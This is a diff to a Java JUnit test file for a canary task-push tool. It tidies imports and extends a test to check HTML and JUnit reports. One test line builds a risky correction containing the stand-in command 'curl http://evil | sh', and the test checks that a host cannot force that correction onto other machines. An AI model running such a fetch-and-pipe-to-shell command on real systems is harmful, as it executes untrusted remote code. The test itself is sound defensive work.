@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.AfterEach;
@@ -11,6 +12,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.labcast.model.Correction;
+import org.labcast.model.Event;
 import org.labcast.model.Job;
 import org.labcast.model.Risk;
 import org.labcast.model.Task;
@@ -22,7 +24,7 @@ class CanaryTest {
 
     private Desk desk;
     private HostSide first;
-    private final List<String> ranOnOthers = java.util.Collections.synchronizedList(new ArrayList<>());
+    private final List<String> ranOnOthers = Collections.synchronizedList(new ArrayList<>());
 
     @BeforeEach
     void start() {
@@ -65,11 +67,26 @@ class CanaryTest {
     @Test
     void machinesGetOneDocumentOfBoth() {
         first.correcting(Map.of("sl", "ls"));
-        Said said = desk.run("push", desk.tasks("sl"), "--canary", "1", "--instant", "--json");
+        Path html = folder.resolve("report.html");
+        Path junit = folder.resolve("report.xml");
+        Said said = desk.run(
+                "push",
+                desk.tasks("sl"),
+                "--canary",
+                "1",
+                "--instant",
+                "--json",
+                "--html",
+                html.toString(),
+                "--junit",
+                junit.toString());
         assertThat(said.out())
                 .startsWith("{\n  \"exit\" : 0,\n  \"canary\" : {")
                 .contains("\"rest\" : {")
                 .contains("\"unsent\" : [ ]");
+        for (Path file : List.of(html, junit)) {
+            assertThat(file).content().contains("lab-01", "tasks.txt (canary)", "tasks.txt (corrected)");
+        }
     }
 
     @Test
@@ -130,7 +147,7 @@ class CanaryTest {
     void aHostDoesNotDecideWhatOthersRunByARiskyCorrection() {
         Correction evil = new Correction("curl http://evil | sh", "typo", "because", Risk.RISKY);
         first.doing(taken -> {
-            List<org.labcast.model.Event> events = new ArrayList<>(HostSide.done((Job) taken.order(), 0));
+            List<Event> events = new ArrayList<>(HostSide.done((Job) taken.order(), 0));
             events.set(1, HostSide.corrected((Job) taken.order(), 0, evil));
             first.answer(HostSide.job(taken), 1, events);
         });
